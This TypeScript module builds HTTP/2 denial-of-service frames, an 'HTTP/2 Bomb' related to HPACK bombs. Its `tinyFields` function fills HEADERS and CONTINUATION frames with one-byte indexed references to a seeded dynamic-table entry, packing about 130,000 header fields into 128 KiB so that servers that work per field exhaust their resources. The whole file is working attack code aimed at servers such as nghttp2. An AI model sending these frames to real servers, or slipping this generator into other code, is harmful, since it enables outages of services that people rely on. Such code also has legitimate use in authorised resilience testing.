import { Flag } from './Flag.ts';
import { frame } from './frame.ts';
import { FrameType } from './FrameType.ts';
import { headerBlock } from './headerBlock.ts';
import { indexedLiteral } from './indexedLiteral.ts';
import { request } from './request.ts';

/** Bytes of one frame's payload, nghttp2's default SETTINGS_MAX_FRAME_SIZE. */
const FRAME_BYTES = 16_384;

/**
 * One stream of header fields a byte each (the "HTTP/2 Bomb" kin of an HPACK bomb): a GET of
 * /tiny-ID whose header block is 8 frames (HEADERS and 7 CONTINUATIONs, nghttp2's most) of 0xbe,
 * a reference to dynamic table entry 62, which `seed` (the connection's first such stream) fills
 * with the two-byte field `a: b`. About 130 000 fields for 128 KiB: a server that does work or
 * keeps bookkeeping per field, not per byte, pays for each.
 */
export function tinyFields(streamId: number, seed: boolean): Buffer[] {
  const head = Buffer.concat([headerBlock(request('GET', `/tiny-${streamId}`)), seed ? indexedLiteral('a', 'b') : Buffer.alloc(0)]);
  const block = Buffer.concat([head, Buffer.alloc(8 * FRAME_BYTES - head.length, 0xbe)]);
  return Array.from({ length: 8 }, (_, i) =>
    frame(i === 0 ? FrameType.HEADERS : FrameType.CONTINUATION, (i === 7 ? Flag.END_HEADERS : 0) | (i === 0 ? Flag.END_STREAM : 0), streamId, block.subarray(i * FRAME_BYTES, (i + 1) * FRAME_BYTES)),
  );
}
